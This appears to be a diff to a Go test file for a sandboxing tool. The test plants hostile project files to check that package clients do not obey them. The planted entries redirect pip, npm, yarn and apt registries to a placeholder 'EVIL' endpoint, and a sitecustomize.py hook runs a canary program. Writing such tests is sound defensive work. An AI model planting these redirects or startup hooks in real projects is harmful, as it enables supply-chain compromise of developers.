@@ -67,6 +67,12 @@ func tripwire(lab *sbxtest.Lab, who sbxtest.User, name string) string {
 	return "#!/bin/sh\necho " + name + " >>" + lab.Home(who) + "/ran-on-host\n"
 }
 
+// Where clients keep their built-in defaults.
+const (
+	plantedPip = "lib/python3.11/site-packages/pip/_internal/models/index.py"
+	plantedNPM = "node_modules/npm/node_modules/@npmcli/config/lib/definitions/definitions.js"
+)
+
 // planted are the files of a hostile project that clients would obey; CANARY is
 // a program's path and EVIL an endpoint.
 var planted = map[string]string{
@@ -91,16 +97,16 @@ var planted = map[string]string{
 	"pip/_internal/models/index.py": "PyPI = PackageIndex(\"EVIL/\", file_storage_domain=\"evil.test\")\n",
 	"sitecustomize.py":              "import subprocess\nsubprocess.run(['CANARY'])\n",
 	"pyvenv.cfg":                    "home = DIR/bin\n",
-	"lib/python3.11/site-packages/pip/_internal/models/index.py": "PyPI = PackageIndex(\"EVIL/\", file_storage_domain=\"evil.test\")\n",
-	"node_modules/npm/npmrc": "registry=EVIL\n",
-	"node_modules/npm/node_modules/@npmcli/config/lib/definitions/definitions.js": "  define('registry', {\n  default: 'EVIL',\n",
-	"node_modules/yarn/lib/cli.js": "exports.YARN_REGISTRY = 'EVIL';\n",
-	"sources.list":                 "deb EVIL stable main\n",
-	"apt.conf":                     "Dir::Etc::SourceList \"DIR/sources.list\";\n",
-	".sbx/config.toml":             "[registries]\nnpm = [\"EVIL\"]\n",
-	"sbx/config.toml":              "[registries]\nnpm = [\"EVIL\"]\n",
-	"config.toml":                  "[registries]\nnpm = [\"EVIL\"]\n",
-	"profiles.toml":                "[profiles.js-install]\nversion = 9\n",
+	plantedPip:                      "PyPI = PackageIndex(\"EVIL/\", file_storage_domain=\"evil.test\")\n",
+	"node_modules/npm/npmrc":        "registry=EVIL\n",
+	plantedNPM:                      "  define('registry', {\n  default: 'EVIL',\n",
+	"node_modules/yarn/lib/cli.js":  "exports.YARN_REGISTRY = 'EVIL';\n",
+	"sources.list":                  "deb EVIL stable main\n",
+	"apt.conf":                      "Dir::Etc::SourceList \"DIR/sources.list\";\n",
+	".sbx/config.toml":              "[registries]\nnpm = [\"EVIL\"]\n",
+	"sbx/config.toml":               "[registries]\nnpm = [\"EVIL\"]\n",
+	"config.toml":                   "[registries]\nnpm = [\"EVIL\"]\n",
+	"profiles.toml":                 "[profiles.js-install]\nversion = 9\n",
 }
 
 // plantedPrograms are what the project has programs of its own for.
